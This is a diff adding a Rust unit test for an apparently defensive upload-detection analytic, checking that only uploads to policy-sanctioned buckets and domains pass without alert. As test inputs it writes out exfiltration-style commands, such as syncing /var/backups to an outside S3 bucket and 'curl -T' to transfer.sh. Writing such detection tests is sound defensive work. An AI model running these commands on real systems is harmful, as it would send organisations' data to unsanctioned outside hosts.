@@ -171,3 +171,33 @@ fn a_powershell_script_block_that_posts_a_file_to_a_webhook() {
     );
     assert!(run(&dl).is_empty());
 }
+
+#[test]
+fn uploads_to_what_the_policy_sanctions_raise_nothing() {
+    let policy = outflow_intel::Policy::from_yaml(
+        "policy.yml",
+        "sanctioned:\n  buckets: [corp-example-backups]\n  domains: [\"files.corp.example\"]\n",
+    )
+    .unwrap();
+    let analytic =
+        UploadToolAnalytic::new(Arc::new(Intel::builtin().unwrap())).with_policy(Arc::new(policy));
+    let run_with = |cmd: &str| {
+        let ev = process_event("linux", &[("exe", "/usr/bin/aws"), ("CommandLine", cmd)]);
+        let mut out = Vec::new();
+        analytic.process(&ev, &mut out);
+        out.len()
+    };
+    assert_eq!(
+        run_with("aws s3 sync /var/backups s3://corp-example-backups/srv-git-01/"),
+        0
+    );
+    assert_eq!(
+        run_with("aws s3 sync /var/backups s3://backup-x7-archive/srv-git-01/"),
+        1
+    );
+    assert_eq!(
+        run_with("curl -T a.zip https://files.corp.example/drop/a.zip"),
+        0
+    );
+    assert_eq!(run_with("curl -T a.zip https://transfer.sh/a.zip"), 1);
+}
